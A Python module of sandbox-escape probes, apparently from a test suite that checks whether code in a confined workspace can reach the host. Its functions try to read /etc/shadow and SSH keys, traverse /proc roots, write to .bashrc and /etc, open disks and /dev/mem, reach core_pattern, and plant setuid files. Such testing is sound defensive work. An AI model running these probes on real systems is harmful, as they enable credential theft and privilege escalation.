"""Files: reading what is the host's or somebody else's, and writing what others will run."""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import shutil
import stat
import subprocess
import sys

from .attack import Blocked, Facts, NotHere, any_of, attack, is_hosts, opens, read, secret
from .calls import call, text

_HERE = -100
_BLOCK_DEVICES = ("vda", "vda1", "sda", "sda1", "nvme0n1", "xvda", "dm-0", "loop0")


@attack("files")
def fs_read_shadow(facts: Facts) -> str:
    """Read the host's password hashes."""
    is_hosts(facts, "/etc/shadow")
    return opens("/etc/shadow", os.O_RDONLY)


@attack("files")
def fs_read_ssh_key(facts: Facts) -> str:
    """Read a private key in the home of the user whose box it is."""
    path = f"{facts.home}/.ssh/id_ed25519"
    return secret(facts, read(path), path)


@attack("files")
def fs_read_host_project_env(facts: Facts) -> str:
    """Read the `.env` of another project of the same user."""
    path = f"{facts.home}/project/.env"
    return secret(facts, read(path), path)


@attack("files")
def fs_read_root_home(facts: Facts) -> str:
    """List the home of root on the host."""
    is_hosts(facts, "/root")
    os.listdir("/root")
    return "listed /root of the host"


@attack("environment")
def env_inherited(facts: Facts) -> str:
    """Find a secret of the launcher's environment in one's own."""
    return secret(facts, read("/proc/self/environ"), "the own environment")


@attack("files")
def proc_root_traverse(facts: Facts) -> str:
    """Reach the host's files through /proc/PID/root of every process in sight."""
    inner = f"{facts.home}/.ssh/id_ed25519"
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            return secret(facts, read(f"/proc/{process}/root{inner}"), f"/proc/{process}/root")
        except (OSError, Blocked):
            continue
    raise Blocked("no process leads to it")


@attack("files")
def proc_1_root(facts: Facts) -> str:
    """Reach the host's files through the root folder of process 1."""
    path = f"/proc/1/root{facts.home}/.ssh/id_ed25519"
    return secret(facts, read(path), path)


@attack("files")
def cwd_escape(facts: Facts) -> str:
    """Climb out of the workspace from /proc/self/cwd."""
    relative = os.path.relpath(f"{facts.home}/.ssh/id_ed25519", facts.workspace)
    path = f"/proc/self/cwd/{relative}"
    return secret(facts, read(path), path)


@attack("files")
def fd_leak(facts: Facts) -> str:
    """Find a descriptor that was inherited and leads to a folder or a file of the host."""
    found = [_leaked(facts, int(name)) for name in os.listdir("/proc/self/fd")]
    if named := [each for each in found if each]:
        return ", ".join(named)
    raise Blocked("only the three that everybody has")


def _leaked(facts: Facts, number: int) -> str:
    if number < 3:
        return ""
    try:
        name = os.readlink(f"/proc/self/fd/{number}")
        about = os.fstat(number)
    except OSError:
        return ""
    inherited = os.get_inheritable(number)
    inside = name.startswith((facts.workspace, "/proc"))
    return "" if not inherited or inside else f"{number} -> {name} ({stat.filemode(about.st_mode)})"


@attack("files")
def fd_climb(facts: Facts) -> str:
    """Climb from a descriptor of the root folder to what is above it."""
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    try:
        path = "../" * 20 + f"{facts.home}/.ssh/id_ed25519".lstrip("/")
        handle = os.open(path, os.O_RDONLY, dir_fd=root)
        return secret(facts, os.read(handle, 4096), "above the root folder")
    finally:
        os.close(root)


def _writable(facts: Facts, path: str) -> str:
    """A file without a name is made there: it is gone when closed."""
    is_hosts(facts, path)
    os.close(os.open(path, os.O_TMPFILE | os.O_WRONLY, 0o600))
    return f"may write into {path} of the host"


@attack("files")
def fs_write_usr(facts: Facts) -> str:
    """Write where the host's programs are."""
    return _writable(facts, "/usr")


@attack("files")
def fs_write_etc(facts: Facts) -> str:
    """Write into the host's /etc."""
    return _writable(facts, "/etc")


@attack("files", proof=True)
def fs_write_host_dir(facts: Facts) -> str:
    """Write a file beside the workspace, on the host."""
    with open(f"{facts.outside}/written", "w") as file:
        file.write(facts.canary)
    return "wrote beside the workspace"


@attack("files", proof=True)
def fs_write_bashrc(facts: Facts) -> str:
    """Add a line to the user's .bashrc on the host."""
    with open(f"{facts.home}/.bashrc", "a") as file:
        file.write(f"echo {facts.canary}\n")
    return "changed the user's .bashrc"


@attack("files")
def fs_hardlink_secret(facts: Facts) -> str:
    """Link the private key into the workspace by a second name."""
    link = f"{facts.workspace}/hardlink"
    os.link(f"{facts.home}/.ssh/id_ed25519", link)
    try:
        return secret(facts, read(link), "a hard link")
    finally:
        os.unlink(link)


@attack("files")
def fs_hardlink_tool(facts: Facts) -> str:
    """Link a read-only file of the host into the workspace, to write to it there."""
    link = f"{facts.workspace}/hardtool"
    os.link(f"{facts.tools}/tool", link)
    try:
        return opens(link, os.O_WRONLY)
    finally:
        os.unlink(link)


@attack("files")
def fs_symlink_plant(facts: Facts) -> str:
    """Read the private key through a link in the workspace."""
    link = f"{facts.workspace}/softlink"
    os.symlink(f"{facts.home}/.ssh/id_ed25519", link)
    try:
        return secret(facts, read(link), "a link in the workspace")
    finally:
        os.unlink(link)


class Handle(ctypes.Structure):
    """`struct file_handle` of name_to_handle_at(2)."""

    _fields_ = (
        ("size", ctypes.c_uint),
        ("kind", ctypes.c_int),
        ("bytes", ctypes.c_ubyte * 128),
    )


def handle_of(path: str) -> Handle:
    """The number of a file, as `struct file_handle`."""
    handle, mount = Handle(128, 0), ctypes.c_int()
    call("name_to_handle_at", _HERE, text(path), ctypes.byref(handle), ctypes.byref(mount), 0)
    return handle


@attack("seccomp")
def fs_open_by_handle(facts: Facts) -> str:
    """Open a file of the host's file system by its number instead of its name."""
    top = os.open(facts.workspace, os.O_RDONLY)
    try:
        number = bytes.fromhex(facts.handler)
        handle = Handle.from_buffer_copy(number) if number else handle_of(facts.workspace)
        found = call("open_by_handle_at", top, ctypes.byref(handle), os.O_RDONLY)
        if not number:
            return "opened a folder by its number"
        return secret(facts, os.read(found, 4096), "a file opened by its number")
    finally:
        os.close(top)


@attack("seccomp")
def name_to_handle(facts: Facts) -> str:
    """Learn the number by which a file could be opened from anywhere."""
    handle = handle_of(facts.workspace)
    return f"a number of {handle.size} bytes"


@attack("files")
def fs_mknod_blockdev(facts: Facts) -> str:
    """Make a device file of a disk, to read it whole."""
    path, devices = f"{facts.workspace}/disk", _devices()
    os.mknod(path, 0o600 | stat.S_IFBLK, devices[0] if devices else os.makedev(7, 0))
    try:
        return opens(path, os.O_RDONLY)
    finally:
        os.unlink(path)


def _devices() -> list[int]:
    found: list[int] = []
    for name in _BLOCK_DEVICES:
        try:
            major, minor = read(f"/sys/class/block/{name}/dev").decode().split(":")
            found.append(os.makedev(int(major), int(minor)))
        except OSError:
            continue
    return found


@attack("files")
def dev_block_open(_facts: Facts) -> str:
    """Open a disk of the host."""
    return any_of([lambda n=name: opens(f"/dev/{n}", os.O_RDONLY) for name in _BLOCK_DEVICES])


@attack("files")
def dev_mem(_facts: Facts) -> str:
    """Open the machine's memory as a file."""
    names = ("mem", "kmem", "port")
    return any_of([lambda n=name: opens(f"/dev/{n}", os.O_RDONLY) for name in names])


@attack("files")
def dev_kvm_fuse_tun(_facts: Facts) -> str:
    """Open a device by which the kernel does more than a box needs."""
    names = ("kvm", "fuse", "net/tun", "vhost-net", "vsock", "userfaultfd", "loop-control")
    return any_of([lambda n=name: opens(f"/dev/{n}", os.O_RDWR) for name in names])


@attack("system")
def proc_sys_write(_facts: Facts) -> str:
    """Open a setting of the kernel for writing."""
    names = (
        "kernel/ns_last_pid",
        "kernel/randomize_va_space",
        "kernel/hostname",
        "vm/overcommit_memory",
        "net/ipv4/ip_forward",
        "fs/file-max",
    )
    return any_of([lambda n=name: opens(f"/proc/sys/{n}", os.O_WRONLY) for name in names])


@attack("system")
def core_pattern(_facts: Facts) -> str:
    """Open the setting that names a program which the host runs as root when one crashes."""
    names = ("core_pattern", "modprobe", "hotplug", "poweroff_cmd")
    return any_of([lambda n=name: opens(f"/proc/sys/kernel/{n}", os.O_WRONLY) for name in names])


@attack("system")
def proc_sysrq(_facts: Facts) -> str:
    """Open the file by which the machine is rebooted at once; nothing is written."""
    return opens("/proc/sysrq-trigger", os.O_WRONLY)


@attack("system")
def sys_write(_facts: Facts) -> str:
    """Open a setting below /sys for writing."""
    names = (
        "/sys/kernel/uevent_helper",
        "/sys/power/state",
        "/sys/kernel/mm/ksm/run",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/module/kernel/parameters/panic",
    )
    return any_of([lambda n=name: opens(n, os.O_WRONLY) for name in names])


@attack("system")
def sys_kernel_reads(_facts: Facts) -> str:
    """Read what the kernel tells only its owner: tracing, security modules, firmware."""
    names = ("debug", "tracing", "security", "config", "btf/vmlinux", "notes", "boot_params/data")

    def one(name: str) -> str:
        path = f"/sys/kernel/{name}"
        if os.path.isdir(path):
            if os.listdir(path):
                return f"listed {path}"
            raise Blocked(f"{path} is empty")
        return opens(path, os.O_RDONLY)

    return any_of([lambda n=name: one(n) for name in names])


@attack("files")
def tools_write(facts: Facts) -> str:
    """Write to a program of the host that is shown read-only."""
    return opens(f"{facts.tools}/tool", os.O_WRONLY)


@attack("files", proof=True)
def self_mem_write(facts: Facts) -> str:
    """Change a read-only file through a read-only mapping of it, by way of /proc/self/mem."""
    path = f"{facts.tools}/mapped"
    handle = os.open(path, os.O_RDONLY)
    area = mmap.mmap(handle, 0, mmap.MAP_SHARED, mmap.PROT_READ)
    try:
        address = _address_of(path)
        memory = os.open("/proc/self/mem", os.O_RDWR)
        os.lseek(memory, address, os.SEEK_SET)
        os.write(memory, b"changed!")
        return "wrote through /proc/self/mem"
    finally:
        area.close()


def _address_of(path: str) -> int:
    for line in read("/proc/self/maps", 1 << 20).decode().splitlines():
        if line.endswith(path):
            return int(line.partition("-")[0], 16)
    raise Blocked("the mapping is not found")


@attack("files", proof=True)
def self_exe_overwrite(facts: Facts) -> str:
    """Overwrite a read-only program while it runs, started by the loader so that it is not busy."""
    loaders = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
    loader = next((each for each in loaders if os.path.exists(each)), "")
    if not loader:
        raise NotHere("no loader of the GNU C library")
    tool = f"{facts.tools}/tool"
    running = subprocess.Popen([loader, tool, "2"])
    try:
        exe = os.open(tool, os.O_WRONLY)
        os.write(exe, b"\x7fELF changed!")
        os.close(exe)
        return "overwrote a program of the host"
    finally:
        running.kill()
        running.wait()


@attack("files")
def proc_self_exe(facts: Facts) -> str:
    """Open the interpreter that runs for writing, by way of /proc/self/exe."""
    real = os.path.realpath(sys.executable)
    is_hosts(facts, real)
    try:
        return opens("/proc/self/exe", os.O_WRONLY)
    except OSError as error:
        if error.errno == errno.ETXTBSY:
            return "only busy: it could be overwritten when it ends"
        raise


@attack("capabilities")
def setuid_binary(_facts: Facts) -> str:
    """Become root by a program that is marked for it."""
    if os.geteuid() == 0:
        raise NotHere("root already")
    for name in ("su", "mount", "passwd", "newgrp", "chsh", "sudo"):
        path = shutil.which(name) or ""
        if path and os.stat(path).st_mode & stat.S_ISUID and _becomes_root(path):
            return f"{path} runs as root"
    raise Blocked("none of them runs as another user")


def _becomes_root(path: str) -> bool:
    """Every one of them waits for a line or prints its usage; it is looked at while it starts."""
    running = subprocess.Popen(
        [path, "--help"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    try:
        # A process that changed its user cannot be looked into by its old one.
        os.readlink(f"/proc/{running.pid}/exe")
    except OSError as error:
        return error.errno in {errno.EACCES, errno.EPERM}
    else:
        flags = read("/proc/self/status").decode()
        return "NoNewPrivs:\t0" in flags and not os.statvfs(path).f_flag & os.ST_NOSUID
    finally:
        running.communicate(timeout=3)


def _plant(facts: Facts, name: str, mark: str) -> str:
    path = f"{facts.workspace}/{name}"
    shutil.copyfile("/bin/true", path)
    if mark == "chmod":
        os.chmod(path, 0o4755)
    else:
        call("fchmodat2", _HERE, text(path), 0o4755, 0)
    return "the file is marked"


@attack("files", proof=True)
def setuid_plant(facts: Facts) -> str:
    """Leave a program in the workspace that gives root to whoever runs it on the host."""
    return _plant(facts, "planted-setuid", "chmod")


@attack("files", proof=True)
def setuid_fchmodat2(facts: Facts) -> str:
    """The same by the newest call that can mark a file, which old filters do not know."""
    return _plant(facts, "planted-fchmodat2", "fchmodat2")


@attack("files", proof=True)
def setuid_create(facts: Facts) -> str:
    """The same by making the file with the mark from the start."""
    os.umask(0)
    handle = os.open(f"{facts.workspace}/planted-create", os.O_CREAT | os.O_WRONLY, 0o4755)
    os.close(handle)
    return "the file is marked"


@attack("files")
def file_capability(facts: Facts) -> str:
    """Give a file in the workspace a capability that it would have on the host."""
    path = f"{facts.workspace}/capable"
    shutil.copyfile("/bin/true", path)
    try:
        # Version 2, cap_sys_admin: what `setcap cap_sys_admin+ep` writes.
        os.setxattr(
            path, "security.capability", bytes.fromhex("01000002") + b"\0\0\x20\0" + bytes(12)
        )
        found = os.getxattr(path, "security.capability")
        if len(found) > 20:
            raise Blocked("it counts in the box's own user namespace only")
        return "the file has a capability"
    finally:
        os.unlink(path)


@attack("files")
def trusted_xattr(facts: Facts) -> str:
    """Write an attribute that only the host's root may, as overlay file systems obey it."""
    os.setxattr(facts.workspace, "trusted.overlay.opaque", b"y")
    os.removexattr(facts.workspace, "trusted.overlay.opaque")
    return "wrote trusted.overlay.opaque"


@attack("files")
def chown_to_root(facts: Facts) -> str:
    """Give a file in the workspace to root."""
    path = f"{facts.workspace}/given"
    with open(path, "w"):
        pass
    try:
        if os.stat(path).st_uid == 0:
            os.chown(path, 1, 1)
        else:
            os.chown(path, 0, 0)
        return "it belongs to somebody else now"
    finally:
        os.unlink(path)
